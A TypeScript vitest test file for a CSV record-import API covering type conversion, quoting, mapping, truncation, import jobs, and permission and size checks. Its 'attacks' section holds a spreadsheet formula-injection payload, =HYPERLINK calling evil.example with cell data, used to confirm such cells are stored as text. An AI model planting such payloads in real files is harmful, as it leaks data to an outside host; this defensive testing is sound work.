import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startServer, type Reply, type TestServer } from '../support/harness.js'
import { createAccount, signUpOwner, type Account } from '../support/identity.js'
import { createCollection, createRecord, expectError, freshName, listAll, recordsPath } from './records-fixtures.js'

// CSV of ordinary records (issue 31, item 4): POST /records/import with text/csv, a header row naming
// fields, one record per row, through the same row path, limits, jobs and answer as import-ndjson.

let server: TestServer
let owner: Account
let target: string
let targetIds: string[]

const colours = ['red', 'green', 'blue']
/** One field of every stored type the CSV reads (computed ones are left out, see the round trip). */
const kindFields = () => [
  { name: 'title', type: 'text', required: true },
  { name: 'body', type: 'richtext', required: false },
  { name: 'mail', type: 'email', required: false },
  { name: 'site', type: 'url', required: false },
  { name: 'phone', type: 'phone', required: false },
  { name: 'slug', type: 'slug', required: false },
  { name: 'ref', type: 'uuid', required: false },
  { name: 'count', type: 'integer', required: false },
  { name: 'price', type: 'decimal', required: false },
  { name: 'ratio', type: 'number', required: false },
  { name: 'done', type: 'boolean', required: false },
  { name: 'due', type: 'date', required: false },
  { name: 'at', type: 'datetime', required: false },
  { name: 'mood', type: 'enum', required: false, enumValues: colours },
  { name: 'tags', type: 'multi_enum', required: false, enumValues: colours },
  { name: 'meta', type: 'json', required: false },
  { name: 'extra', type: 'jsonb', required: false },
  {
    name: 'parent',
    type: 'relation',
    required: false,
    relationConfig: { targetCollection: target, relationType: 'belongsTo' },
  },
  {
    name: 'links',
    type: 'relation',
    required: false,
    relationConfig: { targetCollection: target, relationType: 'hasMany' },
  },
  { name: 'location', type: 'geo', required: false },
  { name: 'label', type: 'text', required: false, translatable: true },
]

function importPath(collection: string, query: Record<string, string> = {}): string {
  const qs = new URLSearchParams(query).toString()
  return `/api/v1/collections/${collection}/records/import${qs ? `?${qs}` : ''}`
}

function sendCsv(collection: string, body: string, token: string, query: Record<string, string> = {}): Promise<Reply> {
  return server.request('POST', importPath(collection, query), {
    token,
    rawBody: body,
    headers: { 'content-type': 'text/csv' },
  })
}

async function imported(collection: string, body: string, query: Record<string, string> = {}) {
  const reply = await sendCsv(collection, body, owner.token, query)
  expect(reply.status, reply.text).toBe(200)
  return reply.body as Record<string, any>
}

const csv = (...rows: string[]) => `${rows.join('\r\n')}\r\n`
const byTitle = async (collection: string) =>
  Object.fromEntries((await listAll(server, owner.token, collection, { locale: '*' })).map((r) => [r.title, r]))

let roleSeq = 0
async function personWith(grants: unknown[]): Promise<Account> {
  const name = `csv_${roleSeq++}`
  const role = await server.request('POST', '/api/v1/roles', { token: owner.token, body: { name } })
  expect(role.status, role.text).toBe(201)
  const put = await server.request('PUT', `/api/v1/roles/${role.body.data.id}/grants`, {
    token: owner.token,
    body: { grants },
  })
  expect(put.status, put.text).toBe(200)
  return createAccount(server, owner.token, { role: name })
}

beforeAll(async () => {
  server = await startServer()
  owner = await signUpOwner(server)
  target = await createCollection(server, owner.token, freshName('csv_target'), [
    { name: 'label', type: 'text', required: false },
  ])
  targetIds = []
  for (const label of ['one', 'two']) targetIds.push((await createRecord(server, owner.token, target, { label })).id)
})
afterAll(async () => {
  await server?.stop()
})

describe('each field type', () => {
  it('converts every cell for its field; an empty cell is null', async () => {
    const name = await createCollection(server, owner.token, freshName('kinds'), kindFields())
    const [one, two] = targetIds as [string, string]
    const header = kindFields()
      .map((f) => f.name)
      .join(',')
    const full = [
      '"Hello, ""world"""',
      '"<p>two\nlines</p>"',
      'a@example.com',
      'https://example.com/x',
      '+33 1 23 45 67 89',
      'my-slug',
      '0b8f6e4e-9f3a-4c59-9a52-1d2a3b4c5d6e',
      ' 42 ',
      '9.5',
      '-1.5e3',
      'Yes',
      '2026-05-01',
      '2026-05-01T07:00:00Z',
      'red',
      '"red, blue"',
      '"{""a"":[1,2]}"',
      '"[1,""x""]"',
      one,
      `"${one},${two}"`,
      '"{""type"":""Point"",""coordinates"":[1,2]}"',
      '"{""en"":""Hi"",""fr"":""Salut""}"',
    ]
    const sparse = [
      'Sparse',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      'FALSE',
      '',
      '1790000000',
      '',
      '"[""blue""]"',
      'plain words',
      '',
      '',
      `"[""${two}""]"`,
      '',
      'Just text',
    ]
    const body = await imported(name, csv(header, full.join(','), sparse.join(',')))
    expect(body).toMatchObject({
      imported: 2,
      failed: 0,
      total: 2,
      truncated: false,
      errors: [],
      unknownProperties: [],
    })
    const stored = await byTitle(name)
    expect(stored['Hello, "world"']).toMatchObject({
      body: '<p>two\nlines</p>',
      mail: 'a@example.com',
      site: 'https://example.com/x',
      phone: '+33 1 23 45 67 89',
      slug: 'my-slug',
      ref: '0b8f6e4e-9f3a-4c59-9a52-1d2a3b4c5d6e',
      count: 42,
      price: 9.5,
      ratio: -1500,
      done: true,
      due: '2026-05-01',
      at: Date.parse('2026-05-01T07:00:00Z') / 1000,
      mood: 'red',
      tags: ['red', 'blue'],
      meta: { a: [1, 2] },
      extra: [1, 'x'],
      parent: one,
      links: [one, two],
      location: { type: 'Point', coordinates: [1, 2] },
      label: { en: 'Hi', fr: 'Salut' },
    })
    expect(stored.Sparse).toMatchObject({
      body: null,
      count: null,
      price: null,
      done: false,
      due: null,
      at: 1790000000,
      mood: null,
      tags: ['blue'],
      meta: 'plain words',
      extra: null,
      parent: null,
      links: [two],
      location: null,
      label: { en: 'Just text' },
    })
  })

  it('a cell its field refuses fails its row alone, naming the field', async () => {
    const name = await createCollection(server, owner.token, freshName('bad'), kindFields())
    const body = await imported(
      name,
      csv(
        // location: with a geo field, a CSV naming no geo field column would be read as features.
        'title,count,done,at,meta,mood,tags,parent,ratio,location',
        'ok,1,true,,,,,,,',
        'not a number,12abc,,,,,,,,',
        'not a boolean,,maybe,,,,,,,',
        'no zone,,,2026-05-01,,,,,,',
        'broken json,,,,"{""a"":",,,,,',
        'no such colour,,,,,purple,,,,',
        'no such tag,,,,,,"red,pink",,,',
        'no such record,,,,,,,nothere,,',
        'hex is not a number,,,,,,,,0x10,',
      ),
    )
    expect(body).toMatchObject({ imported: 1, failed: 8, total: 9 })
    expect(body.errors.map((e: any) => [e.line, e.code, e.field])).toEqual([
      [3, 'invalid_field', 'count'],
      [4, 'invalid_field', 'done'],
      [5, 'invalid_field', 'at'],
      [6, 'invalid_field', 'meta'],
      [7, 'invalid_field', 'mood'],
      [8, 'invalid_field', 'tags'],
      [9, expect.any(String), 'parent'],
      [10, 'invalid_field', 'ratio'],
    ])
    expect(Object.keys(await byTitle(name))).toEqual(['ok'])
  })
})

describe('lines, quoting and the header', () => {
  it('counts lines as an editor does: header line 1, blank lines and breaks inside quoted cells included, BOM and CRLF accepted', async () => {
    const name = await createCollection(server, owner.token, freshName('lines'), [
      { name: 'title', type: 'text', required: true },
      { name: 'note', type: 'text', required: false },
    ])
    const text = [
      '\ufefftitle,note', // 1
      'first,"spans\r\nthree\r\nlines"', // 2-4
      '', // 5
      ',missing title', // 6
      '"quote ""inside"", comma",x', // 7
      'too,many,values', // 8
      'last,', // 9
    ].join('\r\n')
    const body = await imported(name, text)
    expect(body).toMatchObject({ imported: 3, failed: 2, total: 5 })
    expect(body.errors).toEqual([
      { line: 6, code: 'missing_field', message: expect.any(String), field: 'title' },
      { line: 8, code: 'invalid_request', message: 'The row has 3 values, the header 2' },
    ])
    const stored = await byTitle(name)
    expect(stored.first!.note).toBe('spans\r\nthree\r\nlines')
    expect(stored['quote "inside", comma']!.note).toBe('x')
    expect(stored.last!.note).toBeNull()
  })

  it('unknown and computed columns are left out and reported once, on the header line; mapping renames or drops columns', async () => {
    const name = await createCollection(server, owner.token, freshName('cols'), [
      { name: 'title', type: 'text', required: true },
      {
        name: 'parent',
        type: 'relation',
        required: false,
        relationConfig: { targetCollection: target, relationType: 'belongsTo' },
      },
      {
        name: 'parent_label',
        type: 'lookup',
        required: false,
        lookupConfig: { relationField: 'parent', targetField: 'label' },
      },
    ])
    const body = await imported(name, csv('title,colour,parent,parent_label,junk', `A,red,${targetIds[0]},ignored,x`))
    expect(body).toMatchObject({
      imported: 1,
      failed: 0,
      unknownProperties: [{ line: 1, properties: ['colour', 'parent_label', 'junk'] }],
    })
    expect(body.records[0]).toMatchObject({ title: 'A', parent: targetIds[0], parent_label: 'one' })
    const mapped = await imported(name, csv('Name,junk', 'B,x'), {
      mapping: JSON.stringify({ Name: 'title', junk: null }),
    })
    expect(mapped).toMatchObject({ imported: 1, unknownProperties: [] })
    expectError(
      await sendCsv(name, csv('Name', 'C'), owner.token, { mapping: '{"Name":"nothing"}' }),
      422,
      'validation_error',
    )
    expectError(await sendCsv(name, csv('title,title', 'D,E'), owner.token), 400, 'invalid_request')
    expectError(await sendCsv(name, csv('title', '"unclosed'), owner.token), 400, 'invalid_request')
    expectError(await sendCsv(name, csv('title'), owner.token), 400, 'invalid_request')
    expect(Object.keys(await byTitle(name)).sort()).toEqual(['A', 'B'])
  })

  it('more than 1000 rows: the first 1000 are imported and truncated is true; dryRun writes nothing', async () => {
    const name = await createCollection(server, owner.token, freshName('many'), [
      { name: 'title', type: 'text', required: true },
    ])
    const rows = Array.from({ length: 1001 }, (_, i) => `row ${i}`)
    const dry = await imported(name, csv('title', ...rows), { dryRun: 'true' })
    expect(dry).toMatchObject({ imported: 1000, total: 1000, truncated: true, records: [] })
    expect(await listAll(server, owner.token, name)).toEqual([])
    const body = await imported(name, csv('title', ...rows))
    expect(body).toMatchObject({ imported: 1000, truncated: true })
    expect(body.records.at(-1).title).toBe('row 999')
  })
})

describe('export → import', () => {
  it('the export of a collection imports into an empty copy as the same records (ids and times kept for an administrator)', async () => {
    const fields = kindFields()
    const source = await createCollection(server, owner.token, freshName('orig'), fields)
    const copy = await createCollection(server, owner.token, freshName('copy'), fields)
    const [one, two] = targetIds as [string, string]
    for (const record of [
      { title: '=SUM(A1)', body: '+33 "quoted", text\nnext line', count: -5, price: 1.25, ratio: 0.5, done: true },
      {
        title: '@handle',
        phone: '+1 555 0100',
        due: '2026-01-31',
        at: 1790000000,
        mood: 'green',
        tags: ['green', 'red'],
      },
      { title: 'json', meta: { a: { b: [1, null, 'x'] } }, extra: [true], parent: one, links: [two, one] },
      {
        title: 'geo and words',
        location: {
          type: 'LineString',
          coordinates: [
            [0, 0],
            [1, 1],
          ],
        },
        label: { en: 'Hi', de: 'Hallo' },
      },
      {
        title: '-minus',
        mail: 'x@example.com',
        site: 'https://e.com',
        slug: 's',
        ref: '0b8f6e4e-9f3a-4c59-9a52-1d2a3b4c5d6e',
      },
    ])
      await createRecord(server, owner.token, source, record)
    const exported = await server.request('GET', `${recordsPath(source)}/export?format=csv`, { token: owner.token })
    expect(exported.status, exported.text).toBe(200)
    expect(exported.text).toContain("'=SUM(A1)")
    const body = await imported(copy, exported.text)
    expect(body).toMatchObject({ imported: 5, failed: 0, errors: [], unknownProperties: [] })
    const before = await listAll(server, owner.token, source, { locale: '*', sortBy: 'id' })
    const after = await listAll(server, owner.token, copy, { locale: '*', sortBy: 'id' })
    expect(after).toEqual(before)
  })

  it('a collection with a geo field reads a CSV without its column as features (lat/lon, WKT), as before', async () => {
    const name = await createCollection(server, owner.token, freshName('geo'), [
      { name: 'title', type: 'text', required: true },
      { name: 'location', type: 'geo', required: false },
    ])
    const body = await imported(name, csv('title,lat,lon', 'Oslo,59.9,10.75'))
    expect(body.records[0].location).toEqual({ type: 'Point', coordinates: [10.75, 59.9] })
  })
})

describe('import jobs', () => {
  it('CSV chunks count in a job beside NDJSON chunks, with their errors by line; a resent chunk is replayed', async () => {
    const name = await createCollection(server, owner.token, freshName('jobs'), [
      { name: 'title', type: 'text', required: true },
      { name: 'count', type: 'integer', required: false },
    ])
    const job = await server.request('POST', `/api/v1/collections/${name}/records/import-jobs`, {
      token: owner.token,
      body: { total: 5 },
    })
    expect(job.status, job.text).toBe(201)
    const jobId = job.body.jobId as string
    const chunk = csv('title,count', 'a,1', 'b,two', 'c,3')
    const first = await sendCsv(name, chunk, owner.token, { jobId })
    expect(first.status, first.text).toBe(200)
    expect(first.body).toMatchObject({ imported: 2, failed: 1 })
    const again = await sendCsv(name, chunk, owner.token, { jobId })
    expect(again.headers.get('idempotent-replayed')).toBe('true')
    expect(again.body).toEqual(first.body)
    const ndjson = await server.request('POST', `/api/v1/collections/${name}/records/import-ndjson?jobId=${jobId}`, {
      token: owner.token,
      rawBody: '{"title":"d"}\n{"title":"e","count":5}\n',
      headers: { 'content-type': 'application/x-ndjson' },
    })
    expect(ndjson.status, ndjson.text).toBe(200)
    const progress = await server.request('GET', `/api/v1/collections/${name}/records/import-jobs/${jobId}`, {
      token: owner.token,
    })
    expect(progress.body).toMatchObject({ status: 'pending', total: 5, imported: 4, failed: 1, chunks: 2 })
    expect(progress.body.errors).toEqual([
      { chunk: 1, line: 3, code: 'invalid_field', message: expect.any(String), field: 'count' },
    ])
    const done = await server.request('POST', `/api/v1/collections/${name}/records/import-jobs/${jobId}/finalize`, {
      token: owner.token,
    })
    expect(done.body).toMatchObject({ status: 'complete', imported: 4, failed: 1 })
    expect(Object.keys(await byTitle(name)).sort()).toEqual(['a', 'c', 'd', 'e'])
  })
})

describe('attacks', () => {
  it('a row over the limit is refused whole with a clear error, nothing stored', async () => {
    const name = await createCollection(server, owner.token, freshName('huge'), [
      { name: 'title', type: 'text', required: true },
    ])
    const reply = await sendCsv(name, csv('title', 'fine', `"${'x'.repeat(8 * 1024 * 1024 + 1024)}"`), owner.token)
    expectError(reply, 400, 'invalid_request')
    expect(reply.body.message).toContain('line 3')
    expect(await listAll(server, owner.token, name)).toEqual([])
  })

  it('a cell that would be a formula is stored as text, never run; the guard the export adds is taken off', async () => {
    const name = await createCollection(server, owner.token, freshName('formula'), [
      { name: 'title', type: 'text', required: true },
      { name: 'count', type: 'integer', required: false },
    ])
    const payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    const body = await imported(
      name,
      csv('title,count', `"${payload.replaceAll('"', '""')}",`, "'@SUM(1),'-5", '=1+1,=1+1'),
    )
    expect(body.errors).toEqual([{ line: 4, code: 'invalid_field', message: expect.any(String), field: 'count' }])
    const stored = await byTitle(name)
    expect(stored[payload]).toMatchObject({ count: null })
    expect(stored['@SUM(1)']).toMatchObject({ count: -5 })
    // Exported again, the text is guarded again.
    const exported = await server.request('GET', `${recordsPath(name)}/export?format=csv`, { token: owner.token })
    expect(exported.text).toContain(`"'${payload.replaceAll('"', '""')}"`)
    expect(exported.text).toContain("'@SUM(1)")
  })

  it('a caller who may not create in the collection is 403 and nothing is written', async () => {
    const name = await createCollection(server, owner.token, freshName('locked'), [
      { name: 'title', type: 'text', required: true },
    ])
    const reader = await personWith([{ resource: `collections/${name}`, action: 'read' }])
    const refused = await sendCsv(name, csv('title', 'sneaky'), reader.token)
    expectError(refused, 403, 'forbidden')
    const stranger = await personWith([])
    expectError(await sendCsv(name, csv('title', 'sneaky'), stranger.token), 403, 'forbidden')
    expect(await listAll(server, owner.token, name)).toEqual([])
  })
})
